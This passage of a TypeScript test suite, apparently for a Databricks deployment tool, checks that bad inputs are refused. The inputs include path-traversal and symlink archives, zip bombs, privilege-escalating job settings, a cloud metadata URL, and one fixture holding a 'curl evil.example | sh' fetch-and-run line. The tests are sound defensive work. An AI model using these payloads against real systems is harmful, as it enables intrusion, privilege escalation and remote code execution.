    expected: { status: 403, says: /accepted only from the approval page itself/ },
  },
  {
    area: 'approval link',
    name: 'decision where an allow-list exists but App Service Authentication is off',
    arrange: () => {
      const token = releaseWaiting(world, 'rel-auth-off', 'qa');
      const alice = signedIn('alice@contoso.com', { preferred_username: 'alice@contoso.com' });
      return () =>
        withSetting('WEBSITE_AUTH_ENABLED', undefined, () => decide(world, token, { headers: alice }));
    },
    expected: { status: 403, says: /App Service Authentication is not enabled/ },
  },
  {
    area: 'approval link',
    name: 'decision with an unknown content type',
    arrange: decision('rel-text-plain', 'prod', { headers: { 'content-type': 'text/plain' } }),
    expected: { status: 415, says: /application\/x-www-form-urlencoded or application\/json/ },
  },
  {
    area: 'approval link',
    name: 'decision with a body over 16 KB',
    arrange: decision('rel-big-body', 'prod', { body: `decision=approve&comment=${'x'.repeat(17_000)}` }),
    expected: { status: 413, says: /exceeds 16384 bytes/ },
  },
  {
    area: 'approval link',
    name: 'decision with a comment over 1,000 characters',
    arrange: decision('rel-long-comment', 'prod', { body: `decision=approve&comment=${'x'.repeat(1001)}` }),
    expected: { status: 400, says: /at most 1000 are kept/ },
  },
  {
    area: 'approval link',
    name: 'decision without a decision',
    arrange: decision('rel-no-decision', 'prod', { body: 'comment=hmm' }),
    expected: { status: 400, says: /must be &quot;approve&quot; or &quot;reject&quot;/ },
  },
  {
    area: 'approval link',
    name: 'decision that is neither approve nor reject',
    arrange: decision('rel-maybe', 'prod', { body: 'decision=approve-all' }),
    expected: { status: 400, says: /must be &quot;approve&quot; or &quot;reject&quot;/ },
  },

  // ── Uploaded archives (bundles/<name>) ────────────────────────────────────────────────────────────
  {
    area: 'archive',
    name: 'tar.gz with a "../" entry',
    arrange: archive(() => tarGz([{ path: '../evil.py', data: 'x' }])),
    expected: { code: 'PathTraversal', says: /"\.\.\/evil\.py"/ },
  },
  {
    area: 'archive',
    name: 'tar.gz with ".." hidden in a PAX path',
    arrange: archive(() => tarGz([{ path: 'innocent.py', pax: { path: '../../evil.py' }, data: 'x' }])),
    expected: { code: 'PathTraversal', says: /evil\.py/ },
  },
  {
    area: 'archive',
    name: 'tar.gz with an absolute path',
    arrange: archive(() => tarGz([{ path: '/tmp/bricklane-bad-input-abs.py', data: 'x' }])),
    expected: { code: 'AbsolutePath', says: /absolute/ },
  },
  {
    area: 'archive',
    name: 'tar.gz with a Windows drive path',
    arrange: archive(() => tarGz([{ path: 'C:\\evil.py', data: 'x' }])),
    expected: { code: 'AbsolutePath', says: /C:/ },
  },
  {
    area: 'archive',
    name: 'tar.gz with a symbolic link and a file through it',
    arrange: archive(() =>
      tarGz([
        { path: 'notebooks', type: 'SymbolicLink', linkpath: '/etc' },
        { path: 'notebooks/evil.py', data: 'x' },
      ]),
    ),
    expected: { code: 'Link', says: /symbolic link/ },
  },
  {
    area: 'archive',
    name: 'tar.gz with a hard link',
    arrange: archive(() => tarGz([{ path: 'passwd', type: 'Link', linkpath: '/etc/passwd' }])),
    expected: { code: 'Link', says: /hard link/ },
  },
  {
    area: 'archive',
    name: 'tar.gz with a FIFO',
    arrange: archive(() => tarGz([{ path: 'pipe', type: 'FIFO' }])),
    expected: { code: 'SpecialFile', says: /FIFO/ },
  },
  {
    area: 'archive',
    name: 'tar.gz with a character device',
    arrange: archive(() => tarGz([{ path: 'null', type: 'CharacterDevice' }])),
    expected: { code: 'SpecialFile', says: /CharacterDevice/ },
  },
  {
    area: 'archive',
    name: 'tar.gz with the same file twice',
    arrange: archive(() =>
      tarGz([
        { path: 'notebooks/a.py', data: '1' },
        { path: 'notebooks/a.py', data: '2' },
      ]),
    ),
    expected: { code: 'Duplicate', says: /appears more than once/ },
  },
  {
    area: 'archive',
    name: 'tar.gz cut short',
    arrange: archive(() => {
      const gz = tarGz([{ path: 'big.bin', data: Buffer.from(randomHex(40).repeat(2000)) }]);
      return gz.subarray(0, gz.length >> 1);
    }),
    expected: { code: 'Truncated', says: /cut short/ },
  },
  {
    area: 'archive',
    name: 'tar without its end marker',
    arrange: archive(() => tarArchive([{ path: 'a.py', data: 'x' }], false)),
    expected: { code: 'Truncated', says: /end-of-archive marker/ },
  },
  {
    area: 'archive',
    name: 'a gzip stream that stops after its header',
    arrange: archive(() => tarGz([]).subarray(0, 10)),
    expected: { code: 'Truncated', says: /cut short|incomplete|empty/ },
  },
  {
    area: 'archive',
    name: 'not an archive (a shell script named .tar.gz)',
    arrange: archive(() => Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'.repeat(40))),
    expected: { code: 'UnsupportedFormat', says: /\.tar\.gz/ },
  },
  {
    area: 'archive',
    name: 'an empty upload',
    arrange: archive(() => Buffer.alloc(0)),
    expected: { code: 'Truncated', says: /empty/ },
  },
  {
    area: 'archive',
    name: 'zip with a "../" entry',
    arrange: archive(() => zipArchive([{ name: '../evil.py', data: 'x' }]), 'upload.zip'),
    expected: { code: 'PathTraversal', says: /"\.\.\/evil\.py"/ },
  },
  {
    area: 'archive',
    name: 'zip with a symbolic link',
    arrange: archive(
      () => zipArchive([{ name: 'link', data: '/etc/passwd', mode: 0o120777, method: 0 }]),
      'u.zip',
    ),
    expected: { code: 'Link', says: /symbolic link/ },
  },
  {
    area: 'archive',
    name: 'zip with a backslash traversal',
    arrange: archive(() => zipArchive([{ name: '..\\evil.py', data: 'x' }]), 'upload.zip'),
    expected: { code: 'PathTraversal', says: /\.\./ },
  },
  {
    area: 'archive',
    name: 'zip with a CRC mismatch',
    arrange: archive(() => zipArchive([{ name: 'a.py', data: 'print(1)\n', crc: 1234 }]), 'upload.zip'),
    expected: { code: 'Corrupt', says: /CRC-32/ },
  },
  {
    area: 'archive',
    name: 'zip cut short',
    arrange: archive(() => {
      const zip = zipArchive([{ name: 'a.bin', data: Buffer.from(randomHex(40).repeat(1000)) }]);
      return zip.subarray(0, zip.length >> 1);
    }, 'upload.zip'),
    expected: { code: 'Truncated', says: /incomplete/ },
  },
  {
    area: 'archive',
    name: 'zip listing more than 20,000 entries',
    arrange: archive(
      () => zipArchive(Array.from({ length: 20_001 }, (_, i) => ({ name: `f${i}.py`, method: 0 as const }))),
      'upload.zip',
    ),
    expected: { code: 'TooManyEntries', says: /lists 20001 entries/ },
  },
  {
    area: 'archive',
    name: 'zip bomb: one entry declaring 2 GiB',
    arrange: archive(
      () => zipArchive([{ name: 'zeros.bin', data: Buffer.alloc(MB), declaredSize: 2 ** 31 }]),
      'u.zip',
    ),
    expected: { code: 'TooLarge', says: /unpacks to more than \d+ bytes/ },
  },
  {
    area: 'archive',
    name: 'finding: one 512 MiB entry from a 0.5 MB archive',
    arrange: archive(() => zeroTarGz(1, 512)),
    expected: { code: 'TooLarge', says: /"zeros-0\.bin" unpacks to more than \d+ bytes/ },
  },
  {
    area: 'archive',
    // The finding's files were 8 MiB; 7 MiB ones stay under the per-file limit (7.5 MB), as the bomb's author would.
    name: 'finding: a 1 MB upload that unpacks to 1 GiB in 7 MiB files (the 850x bomb)',
    arrange: archive(() => zeroTarGz(147, 7)),
    expected: { code: 'TooLarge', says: /times the archive's \d+ bytes/ },
  },

  // ── Bundles ───────────────────────────────────────────────────────────────────────────────────────
  {
    area: 'bundle',
    name: 'malformed cluster JSON',
    arrange: bundle(() => [...baseEntries(), file('clusters/broken.json', '{"cluster_name": "A",,}')]),
    expected: { code: 'JSON_MALFORMED', says: /not valid JSON/ },
  },
  {
    area: 'bundle',
    name: 'two clusters with one name',
    arrange: bundle(() => [...baseEntries(), json('clusters/again.json', SMALL_CLUSTER)]),
    expected: { code: 'CLUSTER_NAME_DUPLICATE', says: /Small/ },
  },
  {
    area: 'bundle',
    name: 'two jobs with one name',
    arrange: bundle(() => {
      const job = {
        name: 'nightly',
        tasks: [
          { task_key: 't', existing_cluster_id: 'Small', notebook_task: { notebook_path: 'etl/ingest' } },
        ],
      };
      return [...baseEntries(), json('jobs/a.json', job), json('jobs/b.json', job)];
    }),
    expected: { code: 'JOB_NAME_DUPLICATE', says: /nightly/ },
  },
  {
    area: 'bundle',
    name: 'a notebook and a file that land on one workspace path',
    arrange: bundle(() => [
      ...baseEntries(),
      file('notebooks/etl/ingest.sql', '-- Databricks notebook source\nSELECT 2\n'),
    ]),
    expected: { code: 'TARGET_PATH_COLLISION', says: /ingest/ },
  },
  {
    area: 'bundle',
    name: 'a job notebook path outside the bundle',
    arrange: bundle(() => [
      ...baseEntries(),
      json('jobs/evil.json', {
        name: 'evil',
        tasks: [
          {
            task_key: 't',
            existing_cluster_id: 'Small',
            notebook_task: { notebook_path: '../../Users/victim@contoso.com/x' },
          },
        ],
      }),
    ]),
    expected: { code: 'JOB_PATH_OUTSIDE_BUNDLE', says: /\.\./ },
  },
  {
    area: 'bundle',
    name: 'a cluster init script that climbs out of init-scripts/',
    arrange: bundle(() => [
      ...baseEntries(),
      json('clusters/evil.json', {
        ...SMALL_CLUSTER,
        cluster_name: 'Evil',
        init_scripts: [{ workspace: { destination: '../../../evil.sh' } }],
      }),
    ]),
    expected: { code: 'INIT_SCRIPT_NOT_FOUND', says: /evil\.sh/ },
  },
  {
    area: 'bundle',
    name: 'a cluster file that names an existing cluster_id',
    arrange: bundle(() => [
      ...baseEntries(),
      json('clusters/taken.json', { ...SMALL_CLUSTER, cluster_name: 'T', cluster_id: '0101-abc' }),
    ]),
    expected: { code: 'CLUSTER_ID_FORBIDDEN', says: /cluster_id/ },
  },
  {
    area: 'bundle',
    name: 'a job file that names an existing job_id',
    arrange: bundle(() => [
      ...baseEntries(),
      json('jobs/taken.json', {
        job_id: 42,
        name: 'taken',
        tasks: [
          { task_key: 't', existing_cluster_id: 'Small', notebook_task: { notebook_path: 'etl/ingest' } },
        ],
      }),
    ]),
    expected: { code: 'JOB_ID_FORBIDDEN', says: /job_id/ },
  },
  {
    area: 'bundle',
    name: "finding: notebookRoot in another user's folder (/Users/victim@contoso.com)",
    arrange: bundle(() => withOptions({ notebookRoot: '/Users/victim@contoso.com' })),
    expected: {
      code: 'BOUNDARY_WORKSPACE_ROOT',
      says: /\/Users\/victim@contoso\.com.*outside the workspace folders allowed/,
    },
  },
  {
    area: 'bundle',
    name: 'notebookRoot in a sibling folder that shares the prefix (/Shared/MyProject-evil)',
    arrange: bundle(() => withOptions({ notebookRoot: '/Shared/MyProject-evil' })),
    expected: { code: 'BOUNDARY_WORKSPACE_ROOT', says: /MyProject-evil/ },
  },
  {
    area: 'bundle',
    name: 'notebookRoot that climbs out with ".."',
    arrange: bundle(() => withOptions({ notebookRoot: '/Shared/MyProject/../Other' })),
    expected: { code: 'OPTIONS_INVALID', says: /must not contain empty, "\." or "\.\." segments/ },
  },
  {
    area: 'bundle',
    name: 'finding: initScriptRoot on DBFS (dbfs:/databricks/init)',
    arrange: bundle(() => withOptions({ initScriptTarget: 'dbfs', initScriptRoot: 'dbfs:/databricks/init' })),
    expected: { code: 'BOUNDARY_DBFS_INIT_SCRIPTS', says: /DBFS init scripts are deprecated/ },
  },
  {
    area: 'bundle',
    name: "initScriptRoot in another user's workspace folder",
    arrange: bundle(() => withOptions({ initScriptRoot: '/Users/victim@contoso.com/init' })),
    expected: { code: 'BOUNDARY_INIT_SCRIPT_ROOT', says: /victim/ },
  },
  {
    area: 'bundle',
    name: 'finding: a cluster init script from any DBFS path',
    arrange: bundle(() => [
      ...baseEntries(),
      json('clusters/evil.json', {
        ...SMALL_CLUSTER,
        cluster_name: 'Evil',
        init_scripts: [{ dbfs: { destination: 'dbfs:/databricks/init/evil.sh' } }],
      }),
    ]),
    expected: { code: 'BOUNDARY_INIT_SCRIPT', says: /dbfs:\/databricks\/init\/evil\.sh/ },
  },
  {
    area: 'bundle',
    name: "a cluster init script from another user's workspace folder",
    arrange: bundle(() => [
      ...baseEntries(),
      json('clusters/evil.json', {
        ...SMALL_CLUSTER,
        cluster_name: 'Evil',
        init_scripts: [{ workspace: { destination: '/Users/victim@contoso.com/evil.sh' } }],
      }),
    ]),
    expected: { code: 'BOUNDARY_INIT_SCRIPT', says: /victim/ },
  },
  {
    area: 'bundle',
    name: 'a job cluster init script from a volume outside the allowed ones',
    arrange: bundle(() => [
      ...baseEntries(),
      job('volume', {
        job_clusters: [
          {
            job_cluster_key: 'k',
            new_cluster: {
              ...SMALL_CLUSTER,
              init_scripts: [{ volumes: { destination: '/Volumes/main/evil/x/evil.sh' } }],
            },
          },
        ],
        tasks: [{ task_key: 't', job_cluster_key: 'k', notebook_task: { notebook_path: 'etl/ingest' } }],
      }),
    ]),
    expected: { code: 'BOUNDARY_INIT_SCRIPT', says: /\/Volumes\/main\/evil/ },
  },
  {
    area: 'bundle',
    name: 'finding: a job that runs as any user',
    arrange: bundle(() => [...baseEntries(), job('evil_job', { run_as: { user_name: 'ceo@contoso.com' } })]),
    expected: { code: 'BOUNDARY_RUN_AS', says: /ceo@contoso\.com/ },
  },
  {
    area: 'bundle',
    name: 'a job that runs as a service principal not on the list',
    arrange: bundle(() => [
      ...baseEntries(),
      job('sp_job', { run_as: { service_principal_name: '9f0e1d2c-0000-4000-8000-000000000000' } }),
    ]),
    expected: { code: 'BOUNDARY_RUN_AS', says: /9f0e1d2c/ },
  },
  {
    area: 'bundle',
    name: 'finding: a job that grants IS_OWNER to an outside identity',
    arrange: bundle(() => [
      ...baseEntries(),
      job('owned', {
        access_control_list: [{ user_name: 'mallory@evil.example', permission_level: 'IS_OWNER' }],
      }),
    ]),
    expected: { code: 'BOUNDARY_IS_OWNER', says: /mallory@evil\.example/ },
  },
  {
    area: 'bundle',
    name: 'a job that grants CAN_MANAGE to a group allowed only CAN_MANAGE_RUN',
    arrange: bundle(() => [
      ...baseEntries(),
      job('managed', {
        access_control_list: [{ group_name: 'data-engineers', permission_level: 'CAN_MANAGE' }],
      }),
    ]),
    expected: { code: 'BOUNDARY_PERMISSION', says: /data-engineers/ },
  },
  {
    area: 'bundle',
    name: 'a cluster that grants CAN_MANAGE to everyone (group users)',
    arrange: bundle(() => [
      ...baseEntries(),
      json('clusters/open.json', {
        ...SMALL_CLUSTER,
        cluster_name: 'Open',
        access_control_list: [{ group_name: 'users', permission_level: 'CAN_MANAGE' }],
      }),
    ]),
    expected: { code: 'BOUNDARY_PERMISSION', says: /users/ },
  },
  {
    area: 'bundle',
    name: 'finding: a job whose git_source points at any repository',
    arrange: bundle(() => [
      ...baseEntries(),
      job('git_evil', {
        git_source: {
          git_url: 'https://github.com/mallory/evil',
          git_provider: 'gitHub',
          git_commit: 'a1b2c3d4e5f6',
        },
      }),
    ]),
    expected: { code: 'BOUNDARY_GIT_SOURCE', says: /mallory\/evil/ },
  },
  {
    area: 'bundle',
    name: 'a job whose git_source (an allowed repository) follows a branch, not a commit',
    arrange: bundle(() => [
      ...baseEntries(),
      job('git_branch', {
        git_source: { git_url: 'https://github.com/contoso/etl', git_provider: 'gitHub', git_branch: 'main' },
      }),
    ]),
    expected: { code: 'BOUNDARY_GIT_SOURCE_UNPINNED', says: /commit/ },
  },
  {
    area: 'bundle',
    name: 'finding: a notebook that exists in the workspace but was never deployed by bricklane (no adoption allowed)',
    arrange: async (w) => {
      const client = w.databricksClient('dev');
      await client.createWorkspaceFolder('/Shared/MyProject/etl');
      await client.importWorkspaceObject({
        path: '/Shared/MyProject/etl/ingest',
        format: 'SOURCE',
        language: 'PYTHON',
        content: Buffer.from('# Databricks notebook source\nprint("the team\'s own notebook")\n'),
        overwrite: false,
      });
      return () =>
        applyNotebooks(w, [file('notebooks/etl/ingest.py', '# Databricks notebook source\nprint(1)\n')]);
    },
    expected: {
      code: 'failed',
      says: /planned adopt, failed: \/Shared\/MyProject\/etl\/ingest exists in the workspace but bricklane did not deploy it, so it was not overwritten; .*BRICKLANE_DEV_ADOPT_EXISTING=true/,
    },
  },

  // ── Settings ──────────────────────────────────────────────────────────────────────────────────────
  {
    area: 'settings',
    name: 'an environment name with a capital',
    arrange: settings({ BRICKLANE_ENVIRONMENTS: 'Dev' }),
    expected: { code: 'SettingsError', says: /"Dev" is not a valid environment name/ },
  },
  {
    area: 'settings',
    name: 'an environment name with a path in it',
    arrange: settings({ BRICKLANE_ENVIRONMENTS: 'dev,../prod' }),
    expected: { code: 'SettingsError', says: /not a valid environment name/ },
  },
  {
    area: 'settings',
    name: 'an unresolved Key Vault reference as the signing keys',
    arrange: settings({
      BRICKLANE_APPROVAL_SIGNING_KEYS: '@Microsoft.KeyVault(VaultName=kv;SecretName=approval-keys)',
    }),
    expected: {
      code: 'SettingsError',
      says: /BRICKLANE_APPROVAL_SIGNING_KEYS is a Key Vault reference that App Service could not resolve/,
    },
  },
  {
    area: 'settings',
    name: 'an unresolved Key Vault reference as the GitHub webhook secret',
    arrange: settings({
      BRICKLANE_GITHUB_WEBHOOK_SECRET:
        '@Microsoft.KeyVault(SecretUri=https://kv.vault.azure.net/secrets/gh/)',
    }),
    expected: { code: 'SettingsError', says: /BRICKLANE_GITHUB_WEBHOOK_SECRET is a Key Vault reference/ },
  },
  {
    area: 'settings',
    name: 'a signing key shorter than 32 characters',
    arrange: settings({ BRICKLANE_APPROVAL_SIGNING_KEYS: 'short-key' }),
    expected: { code: 'SettingsError', says: /each key must be at least 32 characters/ },
  },
  {
    area: 'settings',
    name: 'a subscription that is not a GUID',
    arrange: settings({ BRICKLANE_DEV_SUBSCRIPTION_ID: 'abc' }),
    expected: { code: 'SettingsError', says: /must be a subscription id/ },
  },
  {
    area: 'settings',
    name: 'an http:// ARM endpoint',
    arrange: settings({ BRICKLANE_ARM_ENDPOINT: 'http://169.254.169.254' }),
    expected: { code: 'SettingsError', says: /BRICKLANE_ARM_ENDPOINT must be an https:\/\/ URL/ },
  },
  {
    area: 'settings',
    name: 'an unknown Databricks auth mode',
    arrange: settings({ BRICKLANE_DEV_DATABRICKS_AUTH: 'pat' }),
    expected: { code: 'SettingsError', says: /DATABRICKS_AUTH must be one of/ },
  },
  {
    area: 'settings',
    name: 'finding: a GitHub webhook secret without BRICKLANE_GITHUB_REPOSITORY',
    arrange: settings({ BRICKLANE_GITHUB_WEBHOOK_SECRET: 'webhook-secret-0123456789abcdef0123' }),
    expected: {
      code: 'SettingsError',
      says: /BRICKLANE_GITHUB_REPOSITORY must be set once BRICKLANE_GITHUB_WEBHOOK_SECRET is/,
    },
  },
  {
    area: 'settings',
    name: 'a GitHub repository given as a URL',
    arrange: settings({ BRICKLANE_GITHUB_REPOSITORY: 'https://github.com/contoso/etl' }),
    expected: { code: 'SettingsError', says: /BRICKLANE_GITHUB_REPOSITORY must be owner\/name/ },
  },
  {
    area: 'settings',
    name: 'a workspace root that climbs out with ".."',
    arrange: settings({ BRICKLANE_DEV_WORKSPACE_ROOTS: '/Shared/../Users' }),
    expected: {
      code: 'SettingsError',
      says: /BRICKLANE_DEV_WORKSPACE_ROOTS: "\/Shared\/\.\.\/Users" must not have empty, "\." or "\.\." segments/,
    },
  },
  {
    area: 'settings',
    name: 'the whole workspace as a root',
    arrange: settings({ BRICKLANE_WORKSPACE_ROOTS: '/' }),
    expected: { code: 'SettingsError', says: /BRICKLANE_WORKSPACE_ROOTS: "\/" must be/ },
  },
  {
    area: 'settings',
    name: 'a volume given as a workspace root',
    arrange: settings({ BRICKLANE_WORKSPACE_ROOTS: '/Volumes/main/etl/scripts' }),
    expected: {
      code: 'SettingsError',
      says: /is a Unity Catalog volume; list volumes for init scripts in VOLUME_ROOTS/,
    },
  },
  {
    area: 'settings',
    name: 'a volume root above a volume (a whole catalog)',
    arrange: settings({ BRICKLANE_VOLUME_ROOTS: '/Volumes/main' }),
    expected: {
      code: 'SettingsError',
      says: /BRICKLANE_VOLUME_ROOTS: "\/Volumes\/main" must be a folder at least 4 level/,
    },
  },
  {
    area: 'settings',
    name: 'the legacy global init-script folder as a DBFS root',
    arrange: settings({ BRICKLANE_DBFS_INIT_SCRIPT_ROOTS: 'dbfs:/databricks/init' }),
    expected: { code: 'SettingsError', says: /is a folder Databricks manages/ },
  },
  {
    area: 'settings',
    name: 'a DBFS root that is the whole of DBFS',
    arrange: settings({ BRICKLANE_DEV_DBFS_INIT_SCRIPT_ROOTS: 'dbfs:/' }),
    expected: { code: 'SettingsError', says: /BRICKLANE_DEV_DBFS_INIT_SCRIPT_ROOTS: "dbfs:\/"/ },
  },
  {
    area: 'settings',
    name: 'IS_OWNER in the permission allow-list',
    arrange: settings({ BRICKLANE_PERMISSIONS: 'user:mallory@evil.example=IS_OWNER' }),
    expected: { code: 'SettingsError', says: /cannot grant IS_OWNER/ },
  },
  {
    area: 'settings',
    name: 'a permission allow-list entry without a level',
    arrange: settings({ BRICKLANE_DEV_PERMISSIONS: 'group:users' }),
    expected: {
      code: 'SettingsError',
      says: /BRICKLANE_DEV_PERMISSIONS: "group:users" must be <user\|group\|servicePrincipal>:<name>=<level>/,
    },
  },
  {
    area: 'settings',
    name: 'a git source over http://',
    arrange: settings({ BRICKLANE_GIT_SOURCES: 'http://github.com/contoso/etl' }),
    expected: { code: 'SettingsError', says: /must be an https:\/\/ repository URL/ },
  },
  {
    area: 'settings',
    name: 'an adoption switch that is not true or false',
    arrange: settings({ BRICKLANE_DEV_ADOPT_EXISTING: 'yes' }),
    expected: {
      code: 'SettingsError',
      says: /BRICKLANE_DEV_ADOPT_EXISTING must be true or false, got "yes"/,
    },
  },
  {
    area: 'settings',
    name: 'a project name of ".." (it names the deployment folder)',
    arrange: settings({ BRICKLANE_PROJECT: '..' }),
    expected: { code: 'SettingsError', says: /BRICKLANE_PROJECT must be 1–64 letters/ },
  },
];

describe('bad inputs: refused, and nothing started, decided or written', () => {
  it('has at least 80 rows, each named once', () => {
    expect(ROWS.length).toBeGreaterThanOrEqual(80);
    expect(new Set(ROWS.map((r) => r.name)).size).toBe(ROWS.length);
  });

  it.each(ROWS.map((row) => [`${row.area}: ${row.name}`, row] as const))('%s', async (_name, row) => {
    const deliver = await row.arrange(world);
    const before = await world.traces();
    const refusal = await deliver();
    const { status, code, says } = row.expected;
    if (status !== undefined) expect(refusal.status, refusal.text).toBe(status);
    if (code !== undefined) expect(refusal.code?.split(' '), refusal.text).toContain(code);
    expect(refusal.text).toMatch(says);
    if (row.expected.never) expect(refusal.text).not.toMatch(row.expected.never);
    if (row.area === 'bundle') expect(refusal.text).not.toMatch(/^DEPLOYABLE BUNDLE/);
    if (row.area === 'settings') expect(refusal.text).not.toBe('SETTINGS LOADED');
    const after = await world.traces();
    if (row.expected.startsOne) {
      expect(after.starts.length).toBe(before.starts.length + 1);
      after.starts.pop();
      // The start's audit record (beginRelease), in the trail of each environment: a start writes it, first.
      const trail = after.blobs.filter((b) => b.startsWith('bricklane-audit/') && !before.blobs.includes(b));
      expect(trail.length).toBeGreaterThan(0);
      after.blobs = after.blobs.filter((b) => !trail.includes(b));
    }
    expect(after).toEqual(before);
  });
});
